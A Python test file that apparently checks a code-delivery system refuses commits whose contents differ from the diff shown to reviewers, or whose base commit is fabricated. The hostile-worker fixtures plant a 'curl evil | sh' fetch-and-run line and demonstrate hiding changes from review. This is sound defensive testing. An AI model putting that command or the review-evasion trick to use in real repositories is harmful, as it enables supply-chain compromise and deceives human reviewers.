"""The diff approvers review belongs to the commit that is delivered.

The reviewed diff and the quarantined commit both come from the worker that ran the task. A
hostile worker (one registered for the task's queue, holding the repo credential) could show
approvers a harmless diff while quarantining a commit with more in it, or pick a base commit of
its own making so that an honest-looking diff from that base hides the rest. The delivery
worker recomputes the diff from the fetched objects, from the base the sealed history names,
and checks that base is real history of the base branch: either lie ends the delivery with
nothing pushed. An honest report made the same way is delivered, so the test's diff is exactly
the one a worker computes.
"""

from __future__ import annotations

import hashlib
import subprocess
from pathlib import Path

from intake.core.models import TaskState
from intake.protocol.keyfiles import load_worker_key
from intake.protocol.reports import Reporter
from intake.tasks.worker_reports import ReportProcessor
from tests.workers.harness import Rig, git_refs, rig  # noqa: F401


def _git(repo: Path, *args: str, stdin: str | None = None) -> str:
    env = {"GIT_AUTHOR_NAME": "w1", "GIT_AUTHOR_EMAIL": "w1@example.invalid", "GIT_COMMITTER_NAME": "w1",
           "GIT_COMMITTER_EMAIL": "w1@example.invalid", "PATH": "/usr/bin:/bin", "HOME": str(repo)}
    return subprocess.run(["git", "--git-dir", str(repo), *args], input=stdin, capture_output=True, text=True,
                          check=True, env=env).stdout.strip()


def _commit(bare: Path, parent: str, files: dict[str, str], message: str) -> str:
    """A commit on ``parent`` adding ``files``, made with plumbing straight in the bare repo (the
    hostile worker holds the repo credential, so it can write any object and ref it likes)."""
    index = bare / "hostile-index"
    env_index = {"GIT_INDEX_FILE": str(index)}
    subprocess.run(["git", "--git-dir", str(bare), "read-tree", parent], check=True, env=env_index)
    for path, text in files.items():
        blob = _git(bare, "hash-object", "-w", "--stdin", stdin=text)
        subprocess.run(["git", "--git-dir", str(bare), "update-index", "--add", "--cacheinfo", f"100644,{blob},{path}"],
                       check=True, env=env_index)
    tree = subprocess.run(["git", "--git-dir", str(bare), "write-tree"], check=True, env=env_index,
                          capture_output=True, text=True).stdout.strip()
    index.unlink()
    return _git(bare, "commit-tree", tree, "-p", parent, "-m", message)


def _diff(bare: Path, base: str, head: str) -> str:
    """The unified diff exactly as a worker computes its review (workers/workspace.py)."""
    return _git(bare, "diff", "--no-color", "--no-ext-diff", "--no-textconv", "--no-renames", "--full-index",
                base, head) + "\n"


def _report_result(rig: Rig, *, commit: str, base: str, shown: str, files: list[str]) -> str:
    """w1 claims a fresh docs task through its real report stream and reports ``commit`` (on
    the quarantine ref) as its result, with ``shown`` as the review: returns the task id."""
    name, generation, key = load_worker_key(rig.issue_key("w1"))
    reporter = Reporter(rig.r, rig.settings.key_prefix, name, generation, key)
    processor = ReportProcessor(rig.broker)
    task = rig.promote()
    rig.reconcile()
    [(nonce, dispatch)] = rig.fact(task.id).dispatches.items()
    run = "b" * 32
    reporter.send("report.claimed", task.id, attempt=dispatch.attempt, run=run, job=dispatch.job, nonce=nonce,
                  sandbox="none")
    processor.poll(block_ms=50)
    assert rig.fact(task.id).state is TaskState.RUNNING
    _git(rig.bare("acme/web"), "update-ref", f"refs/intake/{task.id}", commit)
    review = {"diff": shown, "sha256": hashlib.sha256(shown.encode()).hexdigest(), "truncated": False,
              "bytes": len(shown.encode()), "stat": "", "binary": []}
    result = {"commit": commit, "base": base, "quarantine": f"refs/intake/{task.id}", "files": files,
              "files_changed": len(files), "additions": 1, "deletions": 0, "gates": "passed", "review": review}
    reporter.send("report.result", task.id, attempt=dispatch.attempt, run=run, state="succeeded", reason=None,
                  result=result, summary={"commit": commit}, paths=files, paths_complete=True)
    processor.poll(block_ms=50)
    fact = rig.fact(task.id)
    assert fact.state is TaskState.DELIVERING and fact.result_commit == commit, fact.state
    assert fact.result_diff == review["sha256"] and fact.result_base == base
    return task.id


def _branches(rig: Rig) -> set[str]:
    return {ref for ref in git_refs(rig.bare("acme/web")) if ref.startswith("refs/heads/") and ref != "refs/heads/main"}


def test_a_commit_with_more_than_the_shown_diff_is_not_delivered(rig: Rig) -> None:  # noqa: F811
    bare = rig.bare("acme/web")
    main = _git(bare, "rev-parse", "refs/heads/main")
    harmless = _commit(bare, main, {"docs/notes.md": "a harmless note\n"}, "docs")
    loaded = _commit(bare, main, {"docs/notes.md": "a harmless note\n", "docs/install.sh": "curl evil | sh\n"},
                     "docs")
    task_id = _report_result(rig, commit=loaded, base=main, shown=_diff(bare, main, harmless),
                             files=["docs/notes.md"])
    rig.work(rig.config())
    ended = rig.task(task_id)
    assert ended.state is TaskState.FAILED, ended.state
    assert "is not the reviewed one" in (ended.reason or "")
    assert _branches(rig) == set()


def test_a_base_of_the_workers_own_making_is_not_delivered(rig: Rig) -> None:  # noqa: F811
    bare = rig.bare("acme/web")
    main = _git(bare, "rev-parse", "refs/heads/main")
    # The hidden change goes into a "base" that is not on main; the diff from it is honest.
    fake_base = _commit(bare, main, {"docs/install.sh": "curl evil | sh\n"}, "base")
    on_top = _commit(bare, fake_base, {"docs/notes.md": "a harmless note\n"}, "docs")
    task_id = _report_result(rig, commit=on_top, base=fake_base, shown=_diff(bare, fake_base, on_top),
                             files=["docs/notes.md"])
    rig.work(rig.config())
    ended = rig.task(task_id)
    assert ended.state is TaskState.FAILED, ended.state
    assert "is not in the history of the base branch" in (ended.reason or "")
    assert _branches(rig) == set()


def test_an_honest_report_made_the_same_way_is_delivered(rig: Rig) -> None:  # noqa: F811
    bare = rig.bare("acme/web")
    main = _git(bare, "rev-parse", "refs/heads/main")
    honest = _commit(bare, main, {"docs/notes.md": "a harmless note\n"}, "docs")
    task_id = _report_result(rig, commit=honest, base=main, shown=_diff(bare, main, honest), files=["docs/notes.md"])
    rig.work(rig.config())
    ended = rig.task(task_id)
    assert ended.state is TaskState.SUCCEEDED, ended.reason
    assert git_refs(bare)[f"refs/heads/intake/{task_id}"] == honest
